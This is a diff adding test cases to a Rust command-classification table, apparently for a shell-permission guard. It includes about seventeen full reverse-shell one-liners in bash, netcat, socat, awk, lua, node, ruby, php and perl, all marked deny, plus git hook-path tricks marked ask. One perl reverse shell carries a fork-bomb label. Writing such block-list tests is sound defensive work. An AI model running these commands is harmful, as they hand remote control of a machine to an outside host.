@@ -116,6 +116,44 @@ pub(crate) const CASES: &[Case] = &[
     ask("opaque.exec", "git clone --template /tmp/t https://x.example/y"),
     ask("opaque.exec", "git init --template ~/tpl"),
     ask("opaque.exec", "git -c core.hooksPath=\"$HOOKS\" commit -m x"),
+    deny("remote-script.reverse-shell", "bash -c 'exec bash -i &>/dev/tcp/10.0.0.1/4444 <&1'"),
+    deny("remote-script.reverse-shell", "busybox nc 10.0.0.1 4444 -e sh"),
+    deny("remote-script.reverse-shell", "nc -c bash 10.0.0.1 4444"),
+    deny(
+        "remote-script.reverse-shell",
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444",
+    ),
+    deny(
+        "remote-script.reverse-shell",
+        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}'",
+    ),
+    deny(
+        "remote-script.reverse-shell",
+        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
+    ),
+    deny(
+        "remote-script.reverse-shell",
+        "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4444,\"10.0.0.1\",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});'",
+    ),
+    deny(
+        "remote-script.reverse-shell",
+        "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4444))'",
+    ),
+    deny(
+        "remote-script.reverse-shell",
+        "php -r '$sock=fsockopen(\"10.0.0.1\",4444);$proc=proc_open(\"sh\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'",
+    ),
+    deny("remote-script.reverse-shell", "sh -i >& /dev/udp/10.0.0.1/4444 0>&1"),
+    deny("remote-script.reverse-shell", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196"),
+    deny("remote-script.reverse-shell", "/bin/bash -l > /dev/tcp/10.0.0.1/4444 0<&1 2>&1"),
+    deny("remote-script.reverse-shell", "sudo -u nobody bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+    deny("remote-script.reverse-shell", "nohup nc -e /bin/sh 10.0.0.1 4444 &"),
+    deny("remote-script.reverse-shell", "ncat 10.0.0.1 4444 -e /bin/bash"),
+    deny("remote-script.reverse-shell", "ncat --ssl -e /bin/bash 10.0.0.1 443"),
+    deny(
+        "fork-bomb.interpreter",
+        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+    ),
     ask(
         "opaque.exec",
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit -m x",
